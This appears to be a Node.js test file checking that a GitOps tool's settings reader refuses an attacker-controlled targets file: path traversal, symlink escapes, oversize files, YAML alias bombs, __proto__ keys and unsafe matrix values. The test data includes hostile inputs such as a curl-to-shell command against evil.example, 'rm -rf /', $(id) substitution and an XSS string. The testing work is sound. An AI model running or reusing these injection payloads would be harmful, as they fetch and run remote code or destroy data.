// The attacker's targets file: a pull request controls kube-gitops.yaml, so the file is read only
// from inside the workspace, within limits, and what it holds is data, never markup or a path out.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { matrixEntries } from '../../../src/settings/fleet-targets.js';
import { readSettings } from '../../../src/settings/read-settings.js';
import { MAX_TARGETS_FILE_BYTES } from '../../../src/settings/targets-file-read.js';
import { assertRefused, cleanWorkspacesAfterEach, fleetOf, targetsWorkspace } from '../../support/targets-workspace.js';

cleanWorkspacesAfterEach();
const outside = mkdtempSync(path.join(os.tmpdir(), 'kube-gitops-outside-'));
after(() => rmSync(outside, { recursive: true, force: true }));
writeFileSync(path.join(outside, 'kube-gitops.yaml'), 'targets:\n  - name: stolen\n    path: a\n');

const run =
  (workspace: string, step: Record<string, string> = {}) =>
  () =>
    readSettings((name) => ({ target: 'a', ...step })[name] ?? '', { GITHUB_WORKSPACE: workspace });

describe("the attacker's targets file", () => {
  it('is refused when the input leads out of the workspace: .., an absolute path', () => {
    const ws = targetsWorkspace('targets:\n  - name: a\n    path: a\n');
    assertRefused(
      run(ws, { 'targets-file': '../kube-gitops.yaml' }),
      "Input 'targets-file': '../kube-gitops.yaml' points outside the workspace",
      /must be in the repository/,
    );
    assertRefused(run(ws, { 'targets-file': path.join(outside, 'kube-gitops.yaml') }), "Input 'targets-file': '/", /must be a path relative to the workspace/);
  });

  it('is refused when it, or a directory above it, is a symlink out of the workspace', () => {
    const ws = targetsWorkspace(undefined);
    symlinkSync(path.join(outside, 'kube-gitops.yaml'), path.join(ws, 'kube-gitops.yaml'));
    assertRefused(
      run(ws),
      "Input 'targets-file': 'kube-gitops.yaml' leads through a symlink to ",
      /outside the workspace; keep the targets file in the repository/,
    );
    symlinkSync(outside, path.join(ws, 'conf'));
    assertRefused(
      run(ws, { 'targets-file': 'conf/kube-gitops.yaml' }),
      "Input 'targets-file': 'conf/kube-gitops.yaml' leads through a symlink",
      /outside the workspace/,
    );
  });

  it('is refused when missing, a directory, a dangling link or a link loop', () => {
    const ws = targetsWorkspace(undefined);
    assertRefused(run(ws), "Input 'targets-file': 'kube-gitops.yaml' does not exist in the workspace", /./);
    assertRefused(run(ws, { 'targets-file': 'a' }), "Input 'targets-file': 'a' is a directory, not a regular file", /./);
    symlinkSync('nowhere.yaml', path.join(ws, 'dangling.yaml'));
    assertRefused(run(ws, { 'targets-file': 'dangling.yaml' }), "Input 'targets-file': 'dangling.yaml' is a symlink whose target does not exist", /./);
    symlinkSync('loop.yaml', path.join(ws, 'loop.yaml'));
    assertRefused(run(ws, { 'targets-file': 'loop.yaml' }), "Input 'targets-file': 'loop.yaml' is a symlink loop", /./);
  });

  it('is refused above 1 MiB before it is read (a 10 MB file)', () => {
    const ws = targetsWorkspace(undefined);
    writeFileSync(path.join(ws, 'kube-gitops.yaml'), `targets:\n  - name: a\n#${'x'.repeat(10_000_000)}\n`);
    assert.equal(MAX_TARGETS_FILE_BYTES, 1024 * 1024);
    assertRefused(run(ws), "Input 'targets-file': 'kube-gitops.yaml' is 9.5 MiB; a targets file may be at most 1 MiB", /./);
  });

  it("holds YAML aliases to the loader's limits (a billion laughs is refused, never expanded)", () => {
    const levels = Array.from({ length: 9 }, (_, i) => `  l${i + 1}: &l${i + 1} [${Array(10).fill(`*l${i}`).join(', ')}]`);
    const bomb = ['x:', '  l0: &l0 "lol"', ...levels, 'targets:', '  - name: a', '    path: a', ''].join('\n');
    assertRefused(() => fleetOf(bomb), 'kube-gitops.yaml:1: ', /YAML aliases \(\*name\) in this document expand to .* more nodes/);
    assertRefused(
      () => fleetOf('targets: &t\n  - name: a\n    path: *t\n'),
      'kube-gitops.yaml:1: ',
      /an alias \(\*name\) inside the collection its anchor names/,
    );
  });

  it('keeps values with newlines and markdown as data: quoted in messages, passed on as written; refuses them where the matrix carries them', () => {
    const markdown = '**prod** <img src=x onerror=alert(1)> [x](javascript:alert(1))';
    const targets = fleetOf(`targets:\n  - name: a\n    path: a\n    environment: prod-eu\n    context: "eu\\n<!-- end -->"\n`);
    assert.deepEqual(matrixEntries(targets), [{ target: 'a', environment: 'prod-eu' }]);
    assert.equal(targets[0]?.settings.context, 'eu\n<!-- end -->');
    // The matrix's values may be written into a workflow's `run:` script: no quote, `$` or backtick.
    for (const name of [markdown, 'prod"; curl evil.example | sh; "', 'prod$(id)', '`id`'])
      assertRefused(
        () => fleetOf(`targets:\n  - name: a\n    path: a\n    environment: ${JSON.stringify(name)}\n`),
        'kube-gitops.yaml:4: ',
        /field 'environment' must be a name of letters/,
      );
    assertRefused(
      () => fleetOf('targets:\n  - name: a\n    path: a\n    ring: "1; rm -rf /"\n'),
      'kube-gitops.yaml:4: ',
      /field 'ring' must be a name of letters/,
    );
    assertRefused(() => fleetOf('targets:\n  - name: "a\\n# Approved"\n    path: a\n'), 'kube-gitops.yaml:2: ', /^[^\n]*$/);
    assertRefused(() => fleetOf('targets:\n  - name: a\n    path: a\n    "__proto__": {x: 1}\n'), 'kube-gitops.yaml:4: ', /unknown field "__proto__"/);
  });

  it('cannot name a path out of the workspace through a symlink inside it', () => {
    const ws = targetsWorkspace('targets:\n  - name: a\n    path: [a, escape]\n');
    mkdirSync(path.join(outside, 'manifests'), { recursive: true });
    symlinkSync(path.join(outside, 'manifests'), path.join(ws, 'escape'));
    assertRefused(run(ws), 'kube-gitops.yaml:3: ', /field 'path': path "escape": 'escape' is a symlink that leads outside the workspace/);
  });
});

describe("the attacker's path entries (the review)", () => {
  it('refuses a brace range, which would expand to a pattern per number, at its line', () => {
    const ws = targetsWorkspace("targets:\n  - name: a\n    path: '{1..200000}/x.yaml'\n");
    assertRefused(run(ws), 'kube-gitops.yaml:3: ', /field 'path': path "\{1\.\.200000\}\/x\.yaml" has a brace range/);
  });

  it("refuses a glob with '..' among its parts, which would walk folders outside the workspace", () => {
    const ws = targetsWorkspace("targets:\n  - name: a\n    path: 'a/**/../../*.yaml'\n");
    assertRefused(run(ws), 'kube-gitops.yaml:3: ', /is a glob with '\.\.' in it/);
  });

  it('says a path through a file matches nothing, at its line, never an ENOTDIR from the system', () => {
    const ws = targetsWorkspace('targets:\n  - name: a\n    path: README.md/deploy\n', { 'README.md': '# readme\n' });
    assertRefused(run(ws), 'kube-gitops.yaml:3: ', /path "README\.md\/deploy" matches nothing in the workspace/);
    assertRefused(run(ws, { 'targets-file': 'README.md/kube-gitops.yaml' }), "Input 'targets-file': ", /does not exist in the workspace/);
  });
});
